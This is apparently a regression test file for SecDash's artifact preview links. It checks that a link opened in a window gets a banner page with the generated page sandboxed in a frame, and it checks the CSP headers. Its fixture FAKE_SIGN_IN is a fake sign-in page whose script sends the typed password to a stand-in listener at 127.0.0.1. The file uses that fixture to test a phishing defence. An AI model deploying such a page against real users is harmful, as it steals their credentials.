"""A preview link opened in a window of its own (issue 21, item 12): a generated fake sign-in page filled the window on
the console's origin and sent what was typed to a listener. Such a request now gets SecDash's banner page, with the
generated page in a frame whose sandbox turns scripts and forms off; the interactive page is served only as a frame
(the previews inside SecDash's pages)."""

from __future__ import annotations

from urllib.parse import urlsplit

from secdash.services import preview_links
from tests.api.conftest import signed_in
from tests.support.plant_artifact import plant

FAKE_SIGN_IN = (
    "<!doctype html><title>SecDash</title><h1>Sign in to SecDash</h1><form><input name=password "
    "type=password></form><script>document.forms[0].onsubmit = () => { location = "
    "'http://127.0.0.1:9/?p=' + document.forms[0].password.value; return false; }</script>"
)


async def _link(client, session) -> tuple[str, dict[str, str]]:
    headers = await signed_in(client, session, "user@example.com", "limited")
    artifact = await plant("user@example.com", "fake sign-in", FAKE_SIGN_IN)
    answer = await client.get(f"/api/artifacts/{artifact}/preview", headers=headers)
    assert answer.status_code == 200, answer.text
    return urlsplit(answer.json()["url"]).path, headers


async def test_a_window_gets_the_banner_page_not_the_generated_one(client, session):
    path, _ = await _link(client, session)
    for fetch_dest in ("document", None):
        response = await client.get(path, headers={"Sec-Fetch-Dest": fetch_dest} if fetch_dest else {})
        assert response.status_code == 200
        assert preview_links.BANNER in response.text
        assert "Sign in to SecDash" not in response.text and "<script" not in response.text
        assert f"<iframe src='{path}?frame=1' sandbox=''" in response.text  # scripts and forms off
        assert response.headers["content-security-policy"] == preview_links.WINDOW_CSP
        assert "frame-ancestors 'none'" in response.headers["content-security-policy"]


async def test_a_frame_gets_the_generated_page_sandboxed(client, session):
    path, _ = await _link(client, session)
    for headers, url in (({"Sec-Fetch-Dest": "iframe"}, path), ({}, f"{path}?frame=1")):
        response = await client.get(url, headers=headers)
        assert response.status_code == 200 and "Sign in to SecDash" in response.text
        assert response.headers["content-security-policy"] == preview_links.PREVIEW_CSP


async def test_the_frame_flag_does_not_unlock_a_window(client, session):
    """A link sent with ?frame=1 and opened in a window (a browser says "document") still gets the banner page."""
    path, _ = await _link(client, session)
    response = await client.get(f"{path}?frame=1", headers={"Sec-Fetch-Dest": "document"})
    assert preview_links.BANNER in response.text and "Sign in to SecDash" not in response.text
